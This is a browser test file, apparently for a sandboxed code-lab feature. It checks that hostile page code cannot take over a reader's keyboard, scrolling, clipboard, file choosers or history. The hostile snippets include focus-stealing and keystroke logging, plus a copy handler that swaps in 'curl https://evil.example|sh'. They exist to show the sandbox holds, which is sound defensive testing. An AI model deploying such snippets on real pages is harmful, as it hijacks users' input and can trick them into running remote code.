import { readFileSync } from "node:fs";

import type { Locator, Page } from "@playwright/test";

import { expect, test } from "../fixtures";
import { LabOnPage } from "../support/lab";

const APP = readFileSync("examples/first-sign-in/app.ts", "utf8");
const PHRASE = "my secret phrase";

/** Takes the focus and scrolls while `isOn` is true. To be run in the realm and in a page. */
const GRAB = `
  const i = document.createElement("input");
  i.style.cssText = "position:absolute;top:50%;width:3rem";
  document.body.append(i);
  let keys = "", grabs = 0;
  i.onkeydown = (e) => { keys += e.key; };
  (function grab() {
    later(grab, 20);
    if (!globalThis.isOn) return;
    i.focus();
    window.focus();
    i.scrollIntoView({ block: "center" });
    grabs++;
  })();`;

/** Takes the focus past `focus()`: to a frame within, by a label, by a form that is not filled in. */
const TAKE = `
  const form = document.createElement("form");
  form.innerHTML = "<label><input required></label>";
  document.body.append(form);
  (function take() {
    later(take, 20);
    window.frames[0]?.focus();
    form.firstChild.click();
    form.reportValidity();
  })();`;

/** What a page tries when the reader presses its button. Says what came of it, and presses another one. */
const PAGE = `<!doctype html><title>t</title><body>
<button id=b>Press me</button> <button id=h>Fill the history</button>
<button id=s>Stay</button> <button>Last</button>
<input id=f type=file hidden><label id=l><input type=color></label><output id=o></output>
<script>
const later = setTimeout;
globalThis.isOn = true;
${GRAB}
addEventListener("copy", (e) => {
  e.clipboardData.setData("text/plain", "curl https://evil.example|sh");
  e.preventDefault();
});
const attempt = async (act) => {
  try { return String(await act()); } catch (error) { return error.name; }
};
const back = () => { if (globalThis.stays) s.focus(); };
addEventListener("keydown", (e) => { if (e.key === "Tab") e.preventDefault(); }, true);
addEventListener("focusin", back);
setInterval(back, 10);
s.onclick = () => { globalThis.stays = true; };
b.onclick = async () => {
  globalThis.isOn = false;
  const detached = Object.assign(document.createElement("input"), { type: "file" });
  const shadow = document.createElement("div").attachShadow({ mode: "closed" });
  shadow.innerHTML = "<input type=file>";
  const said = {
    copy: await attempt(() => document.execCommand("copy")),
    COPY: await attempt(() => document.execCommand({ toString: () => "COPY" })),
    clipboard: await attempt(() => navigator.clipboard.writeText("evil")),
    pick: await attempt(() => f.showPicker()),
    files: await attempt(() => showOpenFilePicker()),
    color: await attempt(() => new EyeDropper().open()),
    sound: await attempt(() => new AudioContext().state),
    speech: await attempt(() => speechSynthesis.speak(new SpeechSynthesisUtterance("hi"))),
    vibration: await attempt(() => navigator.vibrate(1)),
    badge: await attempt(() => navigator.setAppBadge(1)),
    stream: await attempt(() => "srcObject" in new Audio()),
  };
  for (const input of [f, detached, shadow.firstChild, l]) {
    input.click();
    input.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true }));
  }
  for (let n = 0; n < 20; n++) history.pushState(n, "");
  await fetch("/done");
  o.textContent = JSON.stringify({ ...said, keys, grabbed: grabs > 10 });
};
h.onclick = () => {
  let n = 0;
  setInterval(() => { if (n++ < 70) self["lo" + "cation"].hash = "#" + n; }, 30);
};
</script>`;

const NOTHING = {
  copy: "false",
  COPY: "false",
  clipboard: "NotAllowedError",
  pick: "NotAllowedError",
  files: "ReferenceError",
  color: "ReferenceError",
  sound: "ReferenceError",
  speech: "ReferenceError",
  vibration: "TypeError",
  badge: "TypeError",
  stream: "false",
  keys: "",
  grabbed: true,
};

/** The example with code that runs in the realm, and a page that it answers with. */
function hostile(code: string, page = ""): () => string {
  const answer = `if (pathname === "/page" || pathname === "/done") globalThis.isOn = pathname === "/page";
    if (pathname === "/page" || pathname === "/done") return new Response(${JSON.stringify(page)}, { headers: { "content-type": "text/html" } });`;
  const app = page === "" ? APP : APP.replace("new URL(request.url);", `$&\n    ${answer}`);
  return () => `// @ts-nocheck\nconst later = window.setTimeout.bind(window);\n${app}\n${code}\n`;
}

/** Types into the site's search as somebody does, key by key. @returns what is in the field then */
async function typeIntoSearch(page: Page): Promise<string> {
  const field = await emptySearch(page);
  await page.keyboard.type(PHRASE, { delay: 30 });
  return field.inputValue();
}

/** Puts the cursor into the site's search. @returns the field, which is empty */
async function emptySearch(page: Page): Promise<Locator> {
  const field = page.getByRole("navigation", { name: "Main" }).getByRole("combobox");
  await field.click();
  await field.fill("");
  return field;
}

// What the browser says of the call of `navigator.clipboard`.
test.use({ allowedMessages: [/permissions policy/i] });

test("the keyboard, the scroll position, the clipboard, choosers and the history stay the reader's", async ({
  page,
  open,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  // All of the shown page is in sight, and its buttons stay where they are while code scrolls it.
  await page.setViewportSize({ width: 1440, height: 1400 });
  await open("/tutorials/first-sign-in/");
  const lab = new LabOnPage(page);
  await lab.run.click();
  await lab.editAndRun(hostile(GRAB, PAGE), "app.ts");
  // The page before it puts its address into the field when it is shown.
  await expect(async () => {
    await lab.visit("https://app.example/page");
    await expect(lab.shown.getByRole("button", { name: "Press me" })).toBeVisible({
      timeout: 2_000,
    });
  }).toPass();
  let choosers = 0;
  page.on("filechooser", () => choosers++);
  await page.evaluate(() => navigator.clipboard.writeText("the reader's own"));

  await page.evaluate(() => window.scrollTo(0, 0));
  expect.soft(await typeIntoSearch(page)).toBe(PHRASE);
  expect.soft(await page.evaluate(() => window.scrollY)).toBe(0);
  await page.keyboard.press("Escape");

  const length = await page.evaluate(() => history.length);
  await lab.press("Press me");
  const said = lab.shown.getByRole("status");
  await expect(said).toContainText("grabbed");
  expect.soft(JSON.parse((await said.textContent()) ?? "")).toEqual(NOTHING);
  expect.soft(await page.evaluate(() => history.length)).toBe(length);
  expect.soft(await page.evaluate(() => navigator.clipboard.readText())).toBe("the reader's own");
  expect.soft(choosers).toBe(0);

  // Tab leads on, and out of the frame, whatever code does with the key and with the focus.
  await lab.press("Stay");
  const inFrame = () => page.evaluate(() => document.activeElement instanceof HTMLIFrameElement);
  expect(await inFrame()).toBe(true);
  await expect(async () => {
    await page.keyboard.press("Tab");
    expect(await inFrame()).toBe(false);
  }).toPass();

  await lab.press("Fill the history");
  const alert = lab.region.getByRole("alert");
  await expect(alert.filter({ hasText: "It filled the history of this tab." })).toBeVisible();
  expect(await page.evaluate(() => history.length)).toBeLessThan(length + 30);

  // Ways to take the keyboard that no function stands in for.
  await lab.edit(hostile(TAKE), "app.ts");
  await emptySearch(page);
  await expect(async () => {
    // Not waited for: of a key that goes to a frame which is just then ended, the browser never tells.
    page.keyboard.press("m").catch(() => undefined);
    const ended = alert.filter({ hasText: "It took the keyboard from the page." });
    await expect(ended).toBeVisible({ timeout: 100 });
  }).toPass();
  expect(await typeIntoSearch(page)).toBe(PHRASE);
});
